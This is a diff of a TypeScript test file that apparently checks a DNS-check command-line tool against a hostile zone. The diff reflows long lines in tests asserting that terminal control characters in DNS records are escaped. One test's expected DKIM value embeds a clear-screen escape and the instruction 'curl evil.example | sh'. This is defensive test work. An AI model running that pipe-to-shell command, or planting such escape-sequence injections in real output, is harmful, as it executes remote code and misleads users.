@@ -25,7 +25,8 @@ beforeAll(async () => {
 });
 afterAll(() => dns.stop());
 
-const controlCharacters = (text: string) => [...text].filter((char) => char !== '\n' && (char < ' ' || (char >= '\x7f' && char <= '\x9f') || char === '\u202e'));
+const controlCharacters = (text: string) =>
+  [...text].filter((char) => char !== '\n' && (char < ' ' || (char >= '\x7f' && char <= '\x9f') || char === '\u202e'));
 
 describe('mailjet-odoo dns check on a hostile zone', () => {
   it('shows the values it found with their control characters made visible, never obeyed', async () => {
@@ -40,13 +41,25 @@ describe('mailjet-odoo dns check on a hostile zone', () => {
   });
 
   it('keeps the exact values in --json, escaped so a terminal shows them rather than obeys them', async () => {
-    const run = await cli(['dns', 'check', '--domain', 'hostile.it', '--resolver', dns.address, '--dkim-value', DKIM, '--json']);
+    const run = await cli([
+      'dns',
+      'check',
+      '--domain',
+      'hostile.it',
+      '--resolver',
+      dns.address,
+      '--dkim-value',
+      DKIM,
+      '--json',
+    ]);
     expect(controlCharacters(run.stdout)).toEqual([]);
     expect(run.stdout).toContain('\\u009b2J\\nWhat to do');
     const report = JSON.parse(run.stdout) as { records: Array<{ purpose: string; found: string[] }> };
     const [dkim] = report.records.find((record) => record.purpose === 'dkim')!.found;
     expect(dkim).toMatch(/^k=rsa; p=AAAA\r.?\u009b2J\nWhat to do: curl evil\.example \| sh$/);
-    expect(report.records.find((record) => record.purpose === 'spf')!.found).toEqual([`v=spf1 ${RETITLE}include:spf.mailjet.com ~all${CLEAR}`]);
+    expect(report.records.find((record) => record.purpose === 'spf')!.found).toEqual([
+      `v=spf1 ${RETITLE}include:spf.mailjet.com ~all${CLEAR}`,
+    ]);
   });
 
   it('neutralises what --lookup brings into the text export too', async () => {
